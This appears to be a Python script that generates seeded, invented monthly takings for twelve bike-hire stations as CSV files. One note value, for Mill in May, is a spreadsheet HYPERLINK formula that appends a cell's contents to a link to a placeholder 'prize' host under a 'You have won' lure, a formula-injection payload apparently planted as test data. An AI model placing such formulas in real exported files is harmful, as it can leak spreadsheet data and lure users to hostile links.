"""Make the invented takings of twelve bike stations in 2025, one file for each.

Run it in this folder; it writes `data/stations/*.csv` and gives the same files each time.
"""

import csv
from pathlib import Path

import numpy as np

SEED = 8
STATIONS = {
    "Bakers Row": (420, 0.13),
    "Central": (980, 0.12),
    "East Market": (610, 0.15),
    "Fishmarket": (540, 0.11),
    "Garden": (390, 0.14),
    "Harbour": (870, 0.13),
    "Library": (720, 0.10),
    "Mill": (310, 0.17),
    "North Gate": (350, 0.36),
    "Old Port": (660, 0.14),
    "Quarry": (240, 0.43),
    "University": (830, 0.12),
}
"""Rides in a middling month, and the share of the income that goes into repairs."""
SEASON = [0.45, 0.5, 0.75, 1.0, 1.25, 1.4, 1.5, 1.45, 1.2, 0.95, 0.65, 0.5]
NOTES = {
    ("Harbour", 7): "regatta weekend",
    ("Library", 8): "closed for two weeks",
    ("Mill", 5): '=HYPERLINK("http://prize.example/?"&D2,"You have won")',
    ("Quarry", 3): "-2 bikes, stolen",
    ("University", 10): "start of term",
}


def main() -> None:
    """Write the files."""
    random = np.random.default_rng(SEED)
    folder = Path("data") / "stations"
    folder.mkdir(parents=True, exist_ok=True)
    for station, (rides_a_month, repair_share) in STATIONS.items():
        name = station.lower().replace(" ", "_")
        with (folder / f"{name}.csv").open(
            "w", encoding="utf-8", newline=""
        ) as file:
            writer = csv.writer(file, lineterminator="\n")
            writer.writerow(
                ["station", "month", "rides", "income", "repairs", "note"]
            )
            for month, season in enumerate(SEASON, start=1):
                closed = 0.5 if (station, month) == ("Library", 8) else 1
                mean = rides_a_month * season * closed
                rides = int(random.normal(mean, mean * 0.07))
                income = round(rides * random.uniform(3.1, 3.5), 2)
                repairs = round(
                    income * repair_share * random.uniform(0.75, 1.25), 2
                )
                note = NOTES.get((station, month), "")
                row = [
                    station,
                    f"2025-{month:02}",
                    rides,
                    income,
                    repairs,
                    note,
                ]
                writer.writerow(row)


if __name__ == "__main__":
    main()
